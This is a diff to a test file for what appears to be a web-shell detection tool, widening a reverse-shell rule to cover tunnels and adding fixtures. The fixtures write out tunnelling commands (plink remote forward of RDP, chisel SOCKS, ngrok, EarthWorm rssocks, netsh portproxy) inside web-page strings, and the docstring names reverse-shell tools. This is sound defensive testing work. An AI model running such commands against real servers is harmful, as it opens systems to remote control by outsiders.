@@ -1,6 +1,7 @@
-"""Commands that hand a shell to another host (EXH-WS-CODE-REVERSE-SHELL-COMMAND): PowerShell's
-TcpClient loop into Invoke-Expression, netcat and ncat given a shell to run, socat's exec:,
-powercat and Nishang's reverse shells, each with a fixed command line. PowerShell's encoded
+"""Commands that open the server to another host (EXH-WS-CODE-REMOTE-ACCESS-COMMAND): reverse
+shells (PowerShell's TcpClient loop into Invoke-Expression, netcat and ncat given a shell to run,
+socat's exec:, powercat and Nishang) and tunnels (SSH remote forwards, chisel, frpc, ngrok,
+EarthWorm, netsh's port proxy), each with a fixed command line. PowerShell's encoded
 commands (`-enc <base64>`) are decoded for every rule that judges a fixed command line (a
 download cradle kept encoded is EXH-WS-CODE-DOWNLOAD-COMMAND's), and the decoded text is shown.
 Kept quiet: an encoded command that does none of this, PowerShell running a script file, netcat
@@ -15,7 +16,7 @@ import pytest
 from code_support import assert_benign, assert_found, chain_of, cs_page, run, vb_page
 from exhunt.codeanalysis.encodedcommand import decoded, with_decoded
 
-REVERSE = "EXH-WS-CODE-REVERSE-SHELL-COMMAND"
+REVERSE = "EXH-WS-CODE-REMOTE-ACCESS-COMMAND"
 DOWNLOAD = "EXH-WS-CODE-DOWNLOAD-COMMAND"
 # A TcpClient loop of the documented kind: read a line from the listener, run it, send the output.
 LOOP = (
@@ -79,9 +80,23 @@ SHELLS = [
 ]
 
 
+TUNNELS = [
+    ("plink.exe -batch -R", "plink.exe -batch -R 3389:127.0.0.1:3389 u@203.0.113.7"),
+    ("chisel", "chisel.exe client 203.0.113.7:8443 R:socks"),
+    ("frpc", "frpc.exe -c frpc.ini"),
+    ("ngrok", "ngrok tcp 3389"),
+    ("ew", "ew_for_win_32.exe -s rssocks -d 203.0.113.7 -e 8888"),
+    ("portproxy", "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=443"),
+]
+SHELLS += [
+    (f"tunnel-{i}.aspx", cs_page(f'System.Diagnostics.Process.Start("cmd.exe", "/c {line}");'), shown.split()[0])
+    for i, (shown, line) in enumerate(TUNNELS)
+]
+
+
 @pytest.mark.parametrize(("name", "code", "shown"), SHELLS, ids=[s[0] for s in SHELLS])
-def test_reverse_shell_command_found(name: str, code: str, shown: str) -> None:
-    assert_found(name, code, REVERSE, ["hands a shell to another host", shown])
+def test_remote_access_command_found(name: str, code: str, shown: str) -> None:
+    assert_found(name, code, REVERSE, ["opens the server to another host", shown])
 
 
 @pytest.mark.parametrize("switch", ["-enc", "-EncodedCommand", "-e", "/ec", "-EncodedC"])
@@ -107,6 +122,9 @@ LOOKALIKES = [
     ("nc-send.aspx", cs_page('System.Diagnostics.Process.Start("nc.exe", "-w 3 backup.example 9000 < db.bak");')),
     # `-e` of another tool, and base64 that is no UTF-16 text
     ("robocopy.aspx", cs_page('System.Diagnostics.Process.Start("robocopy.exe", "C:\\\\a D:\\\\b /e /np");')),
+    # ssh without a remote forward, and a local forward
+    ("ssh-backup.aspx", cs_page('System.Diagnostics.Process.Start("ssh.exe", "-i key backup@files.example ls");')),
+    ("netsh-show.aspx", cs_page('System.Diagnostics.Process.Start("netsh.exe", "interface portproxy show all");')),
     ("ffmpeg.aspx", cs_page('System.Diagnostics.Process.Start("ffmpeg.exe", "-i in.mp4 -e QUJDREVGR0g= out.mp4");')),
 ]
 
